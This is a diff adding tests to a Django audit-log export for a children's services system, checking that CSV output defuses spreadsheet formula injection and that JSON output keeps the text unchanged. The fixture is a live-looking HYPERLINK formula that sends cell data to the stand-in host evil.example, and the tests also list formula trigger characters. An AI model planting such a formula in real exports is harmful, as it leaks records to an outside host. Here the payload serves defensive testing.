@@ -95,3 +95,38 @@ def test_empty_form_shows_the_page(client, make_user):
     client.force_login(make_user(Role.SERVICE_MANAGER))
     response = client.get(reverse("audit:export"))
     assert response.status_code == 200 and "Export the audit trail" in response.content.decode()
+
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open the record")'
+
+
+def _break_glass_read(child):
+    reader = UserFactory(role=Role.SOCIAL_WORKER)
+    return AccessLogEntry.objects.create(
+        user=reader,
+        what="person_record",
+        object_type="people.person",
+        object_id=str(child.pk),
+        child_id=child.pk,
+        break_glass_reason=HYPERLINK,
+    )
+
+
+def test_csv_export_never_contains_a_live_formula(client, make_user):
+    child = ChildFactory()
+    _break_glass_read(child)
+    audit_event_record(actor=None, action="child_update", instance=child, changes={}, child_id=child.pk)
+    client.force_login(make_user(Role.DIRECTOR))
+    rows = _csv(client.get(reverse("audit:export"), _params()))
+    reads = [row for row in rows if row["kind"] == "read" and row["action_or_read"] == "person_record"]
+    assert [row["detail"] for row in reads] == ["'" + HYPERLINK]
+    triggers = ("=", "+", "-", "@", "\t", "\r")
+    assert not [cell for row in rows for cell in row.values() if cell.startswith(triggers)]
+
+
+def test_json_export_keeps_the_reason_exactly_as_typed(client, make_user):
+    child = ChildFactory()
+    _break_glass_read(child)
+    client.force_login(make_user(Role.DIRECTOR))
+    records = json.loads(client.get(reverse("audit:export"), _params("json")).content)
+    assert [r["detail"] for r in records if r["action_or_read"] == "person_record"] == [HYPERLINK]
